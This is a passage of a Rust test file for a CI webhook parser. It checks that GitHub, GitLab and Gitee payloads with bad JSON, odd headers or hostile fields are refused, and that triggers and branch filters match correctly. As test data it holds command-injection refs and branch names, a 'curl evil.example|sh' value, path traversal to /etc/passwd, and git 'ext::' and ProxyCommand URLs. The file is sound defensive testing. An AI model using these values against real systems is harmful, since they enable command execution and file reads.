        for body in [&b"[]"[..], b"null", b"\"push\"", b"{}", br#"{"ref": 7}"#, b"{\"ref\": \"refs/heads/x\"} trailing"]
        {
            match parse(provider, &headers_for(provider, event, body), body, MAX_BODY_BYTES) {
                Err(ParseError::InvalidJson { .. }) => {}
                other => panic!("{provider} {}: {other:?}", String::from_utf8_lossy(body)),
            }
        }
    }
}

#[test]
fn unknown_events_are_unsupported_not_errors() {
    for (provider, event) in [
        (Provider::GitHub, "issues"),
        (Provider::GitHub, "workflow_run"),
        (Provider::GitLab, "Note Hook"),
        (Provider::GitLab, "System Hook"),
        (Provider::Gitee, "Issue Hook"),
    ] {
        // The body of an event Wharf ignores is not read at all.
        let body = b"\xff not even json";
        let delivery = parse(provider, &headers_for(provider, event, body), body, MAX_BODY_BYTES).unwrap();
        assert_eq!(delivery.event, Event::Unsupported(event.to_string()));
        assert_eq!(event_kind(&delivery.event), None);
    }
}

#[test]
fn a_missing_or_odd_event_header_is_an_error() {
    let body = fixture("github/push.json");
    for (provider, header) in
        [(Provider::GitHub, "x-github-event"), (Provider::GitLab, "x-gitlab-event"), (Provider::Gitee, "x-gitee-event")]
    {
        let headers = owned(&[("content-type", "application/json")]);
        match parse(provider, &headers, &body, MAX_BODY_BYTES) {
            Err(err @ ParseError::MissingEventHeader { .. }) => {
                assert!(err.to_string().contains(header), "{err}")
            }
            other => panic!("{provider}: {other:?}"),
        }
    }
    for value in ["", "push\r\nx-injected: 1", "p\u{fffd}sh"] {
        let headers = owned(&[("x-github-event", value)]);
        assert!(
            matches!(parse(Provider::GitHub, &headers, &body, MAX_BODY_BYTES), Err(ParseError::InvalidHeader { .. })),
            "{value:?}"
        );
    }
    let twice = owned(&[("x-github-event", "push"), ("x-github-event", "ping")]);
    assert!(matches!(parse(Provider::GitHub, &twice, &body, MAX_BODY_BYTES), Err(ParseError::InvalidHeader { .. })));
}

/// Asserts `result` is an `InvalidField` error naming `field`.
fn assert_field_error(result: Result<Delivery, ParseError>, field: &str, reason: &str) {
    match result {
        Err(err @ ParseError::InvalidField { .. }) => {
            let text = err.to_string();
            assert!(text.starts_with(&format!("field `{field}` is not valid")), "{text}");
            assert!(text.contains(reason), "`{text}` lacks `{reason}`");
        }
        other => panic!("expected an error on `{field}`, got {other:?}"),
    }
}

#[test]
fn refs_with_shell_metacharacters_or_dot_dot_are_refused() {
    for (provider, event, path) in SUPPORTED {
        for (git_ref, reason) in [
            ("refs/heads/$(touch /tmp/x)", "space"),
            ("refs/heads/$(id)", "`$`"),
            ("refs/heads/`id`", "```"),
            ("refs/heads/a;id", "`;`"),
            ("refs/heads/a|id", "`|`"),
            ("refs/heads/a/../b", "`..`"),
            ("refs/tags/v1&&id", "`&`"),
            ("refs/tags/../../etc/passwd", "`..`"),
            ("refs/heads/--upload-pack=id", "`-`"),
            ("refs/heads/a\nb", "control"),
            ("main", "full ref name"),
        ] {
            let mut payload = fixture_json(path);
            payload["ref"] = json!(git_ref);
            assert_field_error(parse_value(provider, event, &payload), "ref", reason);
        }
    }
}

#[test]
fn merge_request_branches_are_checked() {
    let cases = [
        (
            Provider::GitHub,
            "pull_request",
            "github/pull_request_opened.json",
            "/pull_request/head/ref",
            "pull_request.head.ref",
        ),
        (
            Provider::GitHub,
            "pull_request",
            "github/pull_request_opened.json",
            "/pull_request/base/ref",
            "pull_request.base.ref",
        ),
        (
            Provider::GitLab,
            "Merge Request Hook",
            "gitlab/merge_request_open.json",
            "/object_attributes/source_branch",
            "object_attributes.source_branch",
        ),
        (
            Provider::GitLab,
            "Merge Request Hook",
            "gitlab/merge_request_open.json",
            "/object_attributes/target_branch",
            "object_attributes.target_branch",
        ),
        (
            Provider::Gitee,
            "Merge Request Hook",
            "gitee/merge_request_open.json",
            "/pull_request/head/ref",
            "pull_request.head.ref",
        ),
        (
            Provider::Gitee,
            "Merge Request Hook",
            "gitee/merge_request_open.json",
            "/pull_request/base/ref",
            "pull_request.base.ref",
        ),
    ];
    for (provider, event, path, pointer, field) in cases {
        for (branch, reason) in [("x$(reboot)", "`$`"), ("a/../b", "`..`"), ("", "empty")] {
            let mut payload = fixture_json(path);
            *payload.pointer_mut(pointer).unwrap() = json!(branch);
            assert_field_error(parse_value(provider, event, &payload), field, reason);
        }
    }
}

#[test]
fn commits_must_be_40_hex_digits() {
    let not_hex = "77330bdbd7210dff076ce2ef87b0b125ec1d7dz0";
    let cases = [
        (Provider::GitHub, "push", "github/push.json", "/after", "after"),
        (Provider::GitHub, "push", "github/push.json", "/before", "before"),
        (Provider::GitHub, "push", "github/push.json", "/head_commit/id", "head_commit.id"),
        (
            Provider::GitHub,
            "pull_request",
            "github/pull_request_opened.json",
            "/pull_request/head/sha",
            "pull_request.head.sha",
        ),
        (
            Provider::GitHub,
            "pull_request",
            "github/pull_request_closed_merged.json",
            "/pull_request/merge_commit_sha",
            "pull_request.merge_commit_sha",
        ),
        (Provider::GitLab, "Push Hook", "gitlab/push.json", "/checkout_sha", "checkout_sha"),
        (
            Provider::GitLab,
            "Merge Request Hook",
            "gitlab/merge_request_open.json",
            "/object_attributes/last_commit/id",
            "object_attributes.last_commit.id",
        ),
        (Provider::Gitee, "Push Hook", "gitee/push.json", "/after", "after"),
        (
            Provider::Gitee,
            "Merge Request Hook",
            "gitee/merge_request_open.json",
            "/pull_request/head/sha",
            "pull_request.head.sha",
        ),
    ];
    for (provider, event, path, pointer, field) in cases {
        for sha in [not_hex, "77330bd", "HEAD", "--upload-pack=id", ""] {
            if sha.is_empty() && field.ends_with("merge_commit_sha") {
                continue; // an empty merge commit means "not told", as Gitee sends it
            }
            let mut payload = fixture_json(path);
            *payload.pointer_mut(pointer).unwrap() = json!(sha);
            assert_field_error(parse_value(provider, event, &payload), field, "40 hexadecimal digits");
        }
    }
}

#[test]
fn repository_addresses_git_could_run_are_refused() {
    for (provider, event, path, pointer, field) in [
        (Provider::GitHub, "push", "github/push.json", "/repository/clone_url", "repository.clone_url"),
        (Provider::GitLab, "Push Hook", "gitlab/push.json", "/project/git_ssh_url", "project.git_ssh_url"),
        (Provider::Gitee, "Push Hook", "gitee/push.json", "/repository/ssh_url", "repository.ssh_url"),
    ] {
        for (url, reason) in
            [("ext::sh -c touch% /tmp/x", "spaces"), ("ssh://-oProxyCommand=id/x", "`-`"), ("fd::17", "`fd::`")]
        {
            let mut payload = fixture_json(path);
            *payload.pointer_mut(pointer).unwrap() = json!(url);
            assert_field_error(parse_value(provider, event, &payload), field, reason);
        }
    }
}

#[test]
fn a_long_hostile_value_is_shown_escaped_and_cut() {
    let mut payload = fixture_json("github/push.json");
    payload["ref"] = json!(format!("refs/heads/$(curl evil.example|sh)\u{1b}[2J{}", "x".repeat(500)));
    let text = parse_value(Provider::GitHub, "push", &payload).unwrap_err().to_string();
    assert!(text.contains(r"\u{1b}"), "{text}");
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(text.len() < 300, "{text}");
}

// ---------------------------------------------------------------- matching

#[test]
fn every_fixture_counts_as_the_right_trigger_event() {
    for (provider, event, path, kind) in [
        (Provider::GitHub, "push", "github/push.json", Some(GitEvent::Push)),
        (Provider::GitHub, "push", "github/push_tag.json", Some(GitEvent::Tag)),
        (Provider::GitHub, "push", "github/push_delete.json", None),
        (Provider::GitHub, "ping", "github/ping.json", None),
        (Provider::GitHub, "pull_request", "github/pull_request_opened.json", Some(GitEvent::Merge)),
        (Provider::GitHub, "pull_request", "github/pull_request_synchronize.json", Some(GitEvent::Merge)),
        (Provider::GitHub, "pull_request", "github/pull_request_closed_merged.json", Some(GitEvent::Merge)),
        (Provider::GitLab, "Push Hook", "gitlab/push.json", Some(GitEvent::Push)),
        (Provider::GitLab, "Tag Push Hook", "gitlab/tag_push.json", Some(GitEvent::Tag)),
        (Provider::GitLab, "Push Hook", "gitlab/push_delete.json", None),
        (Provider::GitLab, "Merge Request Hook", "gitlab/merge_request_open.json", Some(GitEvent::Merge)),
        (Provider::GitLab, "Merge Request Hook", "gitlab/merge_request_update.json", Some(GitEvent::Merge)),
        (Provider::GitLab, "Merge Request Hook", "gitlab/merge_request_merge.json", Some(GitEvent::Merge)),
        (Provider::Gitee, "Push Hook", "gitee/push.json", Some(GitEvent::Push)),
        (Provider::Gitee, "Tag Push Hook", "gitee/tag_push.json", Some(GitEvent::Tag)),
        (Provider::Gitee, "Merge Request Hook", "gitee/merge_request_open.json", Some(GitEvent::Merge)),
        (Provider::Gitee, "Merge Request Hook", "gitee/merge_request_update.json", Some(GitEvent::Merge)),
        (Provider::Gitee, "Merge Request Hook", "gitee/merge_request_merge.json", Some(GitEvent::Merge)),
    ] {
        assert_eq!(event_kind(&deliver(provider, event, path).event), kind, "{path}");
    }
}

#[test]
fn a_push_to_another_kind_of_ref_triggers_nothing() {
    let mut payload = fixture_json("github/push.json");
    payload["ref"] = json!("refs/notes/commits");
    let event = parse_value(Provider::GitHub, "push", &payload).unwrap().event;
    assert!(matches!(&event, Event::Push { branch: None, tag: None, .. }), "{event:?}");
    assert_eq!(event_kind(&event), None);
}

#[test]
fn branch_filters_as_pipelines_write_them() {
    let filters = ["master", "release/*"];
    let matches = |branch: &str| filters.iter().any(|pattern| branch_matches(pattern, branch));
    assert!(matches("master"));
    assert!(matches("release/2.1"));
    assert!(!matches("release/2.1/hotfix"));
    assert!(!matches("release"));
    assert!(!matches("main"));
    assert!(!matches("feature/master"));
    assert!(branch_matches("**", "feature/deep/branch"));
    assert!(branch_matches("feature/**", "feature/deep/branch"));
    assert!(branch_matches("hotfix-?", "hotfix-1"));
    assert!(!branch_matches("hotfix-?", "hotfix-12"));
}
